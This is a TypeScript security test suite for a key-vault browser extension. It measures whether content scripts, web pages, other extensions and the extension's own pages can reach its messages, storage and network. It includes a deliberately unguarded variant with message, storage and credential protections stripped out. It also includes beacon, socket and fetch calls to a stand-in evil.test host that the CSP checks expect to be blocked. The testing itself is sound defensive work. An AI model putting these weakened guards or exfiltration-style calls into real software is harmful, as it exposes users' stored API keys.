/**
 * Who might speak to Keyway, reach its pages, or be reached by them: each way counts how often it was tried and how often it got through,
 * on the extension as it is or on one without guards.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { CDPSession, Page } from 'puppeteer-core'
import type { Harness } from '../browser/harness.ts'
import { poll } from '../browser/poll.ts'
import { passphrase, send, withKey } from '../features/lock/vault-story.ts'
import { names, samples } from '../protocol/message-table.ts'
import { sampleOf } from './outcome.ts'
import type { Without } from './unguarded.ts'

export type World = { h: Harness; screen: Page }
export type Count = { tries: number; landed: number; what?: string[] }

/** Takes every message that has the shape of one, from everybody; storage is open to content scripts, other extensions are heard. */
export const unguarded: Without = {
  'protocol/accept.ts': `import * as v from 'valibot'
    import { requests } from './messages.ts'
    export function accept(message, raw) {
      const schema = requests[message?.name]
      const parsed = schema && v.safeParse(schema, message.payload)
      if (!parsed?.success) return null
      const sender = { kind: message.name.split('.')[0], url: raw.url ?? '', tabId: raw.tab?.id ?? 0 }
      return { name: message.name, payload: parsed.output, sender }
    }`,
  'platform/receive.ts': [
    [
      'chrome.runtime.onMessage.addListener(',
      `const everybody = {
        addListener(hear: Parameters<typeof chrome.runtime.onMessage.addListener>[0]) {
          chrome.runtime.onMessage.addListener(hear)
          chrome.runtime.onMessageExternal.addListener(hear)
        },
      }
      everybody.addListener(`,
    ],
  ],
  // A key is sent on to wherever an answer says, with all that the browser has kept, and what comes back is read as it is, however late.
  'features/health/core/ask.ts': [
    ["redirect: 'error'", "redirect: 'follow'"],
    ["credentials: 'omit'", "credentials: 'include'"],
    ["cache: 'no-store'", "cache: 'default'"],
    ['signal: AbortSignal.timeout(options.milliseconds ?? limit)', 'signal: null'],
    ['answerTo(key.secret, response)', "answerTo('', response)"],
  ],
  'platform/storage.ts': [
    ["{ accessLevel: 'TRUSTED_CONTEXTS' }", "{ accessLevel: 'TRUSTED_AND_UNTRUSTED_CONTEXTS' }"],
    [
      "close('sync'), close('managed').catch(() => undefined)",
      "chrome.storage.session.setAccessLevel({ accessLevel: 'TRUSTED_AND_UNTRUSTED_CONTEXTS' })",
    ],
  ],
}
export const unguardedManifest = {
  content_security_policy: { extension_pages: "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'" },
  externally_connectable: { ids: ['*'], matches: ['https://platform.openai.com/*'] },
  web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }],
}

/** All that could change or be learned, item by item. The countdown of the lock may move. */
async function everything(h: Harness): Promise<Map<string, string>> {
  const session = { ...(await h.session()), vault: undefined, vaultKey: undefined, tourPage: undefined }
  const texts = (area: string, items: object) =>
    Object.entries(items).map(([name, item]): [string, string] => [`${area} ${name}`, JSON.stringify(item)])
  return new Map([...texts('session', session), ...texts('local', await h.local())])
}

export const changed = (before: Map<string, string>, now: Map<string, string>): string[] =>
  [...new Set([...before.keys(), ...now.keys()])].filter(name => before.get(name) !== now.get(name))

/** What the worker still does of itself, a check say, is over: nothing changed for a second. */
export async function settled(h: Harness): Promise<Map<string, string>> {
  let last = await everything(h)
  let since = Date.now()
  return poll(async () => {
    const now = await everything(h)
    if (changed(last, now).length > 0) since = Date.now()
    last = now
    return Date.now() - since >= 1_000 ? last : undefined
  }, 'the worker to come to rest')
}

/** The isolated world of our content script: what a compromised renderer would speak from. */
export async function contentScript(h: Harness, page: Page): Promise<(code: string) => Promise<unknown>> {
  const session: CDPSession = await page.createCDPSession()
  const worlds: { id: number; origin: string }[] = []
  session.on('Runtime.executionContextCreated', ({ context }) => worlds.push(context))
  await session.send('Runtime.enable')
  const world = await poll(
    () => worlds.find(one => one.origin.startsWith(h.base.slice(0, -1))),
    'our world in the page',
  )
  return async code => {
    const { result } = await session.send('Runtime.evaluate', {
      contextId: world.id,
      expression: code,
      awaitPromise: true,
      returnByValue: true,
    })
    return result.value
  }
}

const messagesBut = (kind: string) =>
  names.filter(name => !name.startsWith(kind)).map(name => ({ name, payload: samples[name] }))

/** Who hears a message answers it, at once or after a while; nobody answers with nothing. */
const sendAll = (messages: object[], to = ''): string =>
  `Promise.all(${JSON.stringify(messages)}.map(message => Promise.race([
    chrome.runtime.sendMessage(${to}message).then(reply => reply ?? null, () => null),
    new Promise(done => setTimeout(done, 5_000, null)),
  ])))`

/** @returns how many of the messages were answered, and whether anything changed by them. */
async function counted(h: Harness, messages: object[], send: () => Promise<unknown>): Promise<Count> {
  const before = await settled(h)
  const replies = (await send()) as unknown[]
  // Without guards a message may end everything there is.
  const different = await everything(h).then(
    now => changed(before, now),
    () => ['all'],
  )
  return {
    tries: messages.length,
    landed: replies.filter(reply => reply !== null).length + Number(different.length > 0),
    ...(different.length > 0 && { what: different.map(name => `${name} changed`) }),
  }
}

export async function messagesFromContentScript({ h }: World): Promise<Count> {
  const page = await h.platform('/usage')
  const run = await contentScript(h, page)
  const messages = messagesBut('page.')
  const heard = await counted(h, messages, () => run(sendAll(messages)))
  await page.close()
  return heard
}

export async function storageFromContentScript({ h }: World): Promise<Count> {
  const page = await h.platform('/usage')
  const run = await contentScript(h, page)
  const answers = (await run(`Promise.all(['session', 'local', 'sync', 'managed'].flatMap(area => [
    chrome.storage[area].get(null).then(() => area + ' read', () => 'refused'),
    chrome.storage[area].set({ planted: 1 }).then(() => area + ' written', () => 'refused'),
    chrome.storage[area].remove('planted').then(() => area + ' removed', () => 'refused'),
  ]))`)) as string[]
  await page.close()
  const what = answers.filter(answer => answer !== 'refused')
  return { tries: answers.length, landed: what.length, what }
}

export async function messagesFromScreen({ h, screen }: World): Promise<Count> {
  const messages = messagesBut('screen.')
  return counted(h, messages, () => screen.evaluate(sendAll(messages)))
}

export async function probesFromPage({ h }: World): Promise<Count> {
  const page = await h.platform('/usage')
  const ways = await page.evaluate(async id => {
    const runtime = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime
    const probe = await fetch(`chrome-extension://${id}/src/entries/popup/popup.html`).then(
      () => 'read',
      () => 'refused',
    )
    const icon = await new Promise<string>(done => {
      const image = new Image()
      image.onload = () => done('seen')
      image.onerror = () => done('refused')
      image.src = `chrome-extension://${id}/icons/16.png`
    })
    return [typeof runtime?.sendMessage === 'undefined' ? 'refused' : 'spoken to', probe, icon]
  }, h.id)
  await page.close()
  const what = ways.filter(way => way !== 'refused')
  return { tries: ways.length, landed: what.length, what }
}

/** @returns how many of our pages show anything in a frame of the site. */
export async function framesInPage(world: World): Promise<Count> {
  const page = await world.h.platform('/usage')
  const count = await framesIn(page, world)
  await page.close()
  return count
}

async function framesIn(page: Page, { h }: World): Promise<Count> {
  const addresses = [h.paths.popup, h.paths.panel, h.paths.dashboard].map(path => h.base + path)
  await page.evaluate(async addresses => {
    for (const address of addresses) {
      const frame = document.createElement('iframe')
      frame.src = address
      document.body.append(frame)
      await new Promise(done => {
        frame.onload = done
        setTimeout(done, 20_000)
      })
    }
  }, addresses)
  let landed = 0
  for (const frame of page.frames().filter(frame => frame.url().startsWith(h.base))) {
    const words = () => frame.evaluate(() => document.body?.innerText ?? '')
    const says = await poll(async () => (await words()) !== '', 'words', { within: 20_000 }).catch(
      () => false,
    )
    if (says) landed++
  }
  return { tries: addresses.length, landed }
}

/** A page of another extension. @param powers its permissions; none when left out */
export async function fromExtension<T>(
  { h }: World,
  work: (page: Page) => Promise<T>,
  powers: object = {},
): Promise<T> {
  const folder = mkdtempSync(join(tmpdir(), 'other-extension-'))
  const background = { service_worker: 'w.js' }
  writeFileSync(
    join(folder, 'manifest.json'),
    JSON.stringify({ manifest_version: 3, name: 'Other', version: '1', background, ...powers }),
  )
  writeFileSync(join(folder, 'w.js'), '')
  writeFileSync(join(folder, 'page.html'), '<!doctype html><title>Other</title>')
  const id = await h.browser.installExtension(folder)
  const page = await h.newPage()
  await page.goto(`chrome-extension://${id}/page.html`)
  try {
    return await work(page)
  } finally {
    await page.close()
    await h.browser.uninstallExtension(id)
    rmSync(folder, { recursive: true })
  }
}

export const messagesFromExtension = (world: World): Promise<Count> =>
  fromExtension(world, page => {
    const messages = names.map(name => ({ name, payload: samples[name] }))
    return counted(world.h, messages, () => page.evaluate(sendAll(messages, `'${world.h.id}', `)))
  })

export const framesInExtension = (world: World): Promise<Count> =>
  fromExtension(world, page => framesIn(page, world))

/** It may open our pages, at any address: that alone must begin nothing. */
export const pagesOpenedByExtension = (world: World): Promise<Count> =>
  fromExtension(world, async page => {
    const { h } = world
    const id = (await h.session()).rows?.[0]?.id ?? ''
    const places = ['', '/call', '/project', '/replace', '/delete', '/rotate'].map(
      place => `#keys/${id}${place}`,
    )
    const hashes = [
      ...sampleOf(places, 3),
      '#keys/add',
      '#backup/export',
      '#backup/import',
      '#security',
      '#organization',
      '#sync',
    ]
    const screens = ['popup', 'panel', 'welcome', 'offscreen'].map(name => `src/entries/${name}/${name}.html`)
    const paths = [...hashes.map(hash => `${h.paths.dashboard}${hash}`), ...screens]
    const before = await settled(h)
    const open = new Set(await h.browser.pages())
    await page.evaluate(
      addresses =>
        Promise.all(
          addresses.map(url =>
            (
              globalThis as unknown as { chrome: { tabs: { create(how: object): Promise<unknown> } } }
            ).chrome.tabs.create({ url, active: false }),
          ),
        ),
      paths.map(path => h.base + path),
    )
    const what = changed(before, await settled(h)).map(name => `${name} changed`)
    for (const one of await h.browser.pages()) if (!open.has(one)) await one.close()
    return { tries: paths.length, landed: what.length, what }
  })

/** Opened in a tab, the clipboard’s document would be handed what is to be copied, in place of the one that copies. */
export async function clipboardDocumentInTab({ h, screen }: World): Promise<Count> {
  const { id } = await withKey(h, screen, 'Copied-Meanwhile')
  const tab = await h.extensionPage('src/entries/offscreen/offscreen.html')
  await send(screen, 'screen.copy', { id, passphrase })
  const messages = [{ name: 'offscreen.pull', payload: {} }]
  const [reply] = (await tab.evaluate(sendAll(messages))) as unknown[]
  await send(screen, 'screen.clearClipboard', {})
  await tab.close()
  const what = reply === null ? [] : [JSON.stringify(reply).slice(0, 200)]
  return { tries: 1, landed: what.length, what }
}

/** One of our pages tries to reach what it may not, and to make code or markup of a text. */
export async function reachFrom({ h }: World, name: string): Promise<Count> {
  const page = await h.extensionPage(`src/entries/${name}/${name}.html`)
  const found = await page.evaluate(async () => {
    let refusals = 0
    document.addEventListener('securitypolicyviolation', () => refusals++)
    const element = (tag: 'img' | 'script') =>
      new Promise((_, refused) => {
        const made = document.createElement(tag)
        made.onerror = refused
        Reflect.set(made, 'src', 'https://evil.test/x')
        document.head.append(made)
      })
    /** Nobody is at these addresses: what is refused is refused by the policy, which says so. */
    const requests: Record<string, () => unknown> = {
      fetch: () => fetch('https://evil.test/'),
      'fetch of a look-alike': () => fetch('https://api.openai.com.evil.test/'),
      'fetch by http': () => fetch('http://api.openai.com/'),
      'fetch of the private network': () => fetch('http://192.168.0.1/'),
      beacon: () => navigator.sendBeacon('https://evil.test/'),
      socket: () =>
        new Promise((_, refused) => {
          new WebSocket('wss://evil.test/').onerror = refused
        }),
      'event source': () =>
        new Promise((_, refused) => {
          new EventSource('https://evil.test/').onerror = refused
        }),
      image: () => element('img'),
      'a script from elsewhere': () => element('script'),
    }
    const makes: Record<string, () => unknown> = {
      'markup from a string': () => {
        document.createElement('div').innerHTML = '<b>x</b>'
      },
      'code from a string': () => Reflect.construct(Function, ['return 1']),
      'a timer from a string': () => Reflect.apply(setTimeout, globalThis, ['1']),
      'a policy of trusted types': () =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('x', {}),
      'a style from a string': () => {
        const style = document.createElement('style')
        style.textContent = 'body { display: none }'
        document.head.append(style)
        const isApplied = getComputedStyle(document.body).display === 'none'
        style.remove()
        if (!isApplied) throw new Error('refused')
      },
    }
    const soon = (milliseconds: number) => new Promise(done => setTimeout(done, milliseconds))
    const landed: string[] = []
    for (const [name, attempt] of Object.entries(requests)) {
      const before = refusals
      await Promise.race([
        Promise.resolve()
          .then(attempt)
          .catch(() => undefined),
        soon(3_000),
      ])
      for (let look = 0; look < 20 && refusals === before; look++) await soon(25)
      if (refusals === before) landed.push(name)
    }
    for (const [name, attempt] of Object.entries(makes))
      try {
        await attempt()
        landed.push(name)
      } catch {
        // Refused, as it should be.
      }
    return { tries: Object.keys(requests).length + Object.keys(makes).length, landed }
  })
  await page.close()
  return { tries: found.tries, landed: found.landed.length, what: found.landed }
}

export async function reachFromWorker({ h }: World): Promise<Count> {
  const strangers = [
    'https://evil.test/',
    'https://api.openai.com.evil.test/',
    'http://api.openai.com/',
    'http://10.0.0.1/',
  ]
  const refused = await h.inWorker(
    async (...addresses: string[]) => {
      const told: string[] = []
      self.addEventListener('securitypolicyviolation', event => told.push(event.blockedURI))
      const ask = (address: string) => fetch(address).catch(() => undefined)
      await Promise.all(addresses.map(ask))
      // A listed host that is not there fails as well, but not by the policy.
      await ask('https://api.mistral.ai/')
      await new Promise(done => setTimeout(done, 200))
      return told.map(address => new URL(address).href)
    },
    ...strangers,
  )
  const what = strangers.filter(address => !refused.includes(address))
  if (refused.some(address => !strangers.includes(address))) what.push('a listed host was refused')
  return { tries: strangers.length, landed: what.length, what }
}
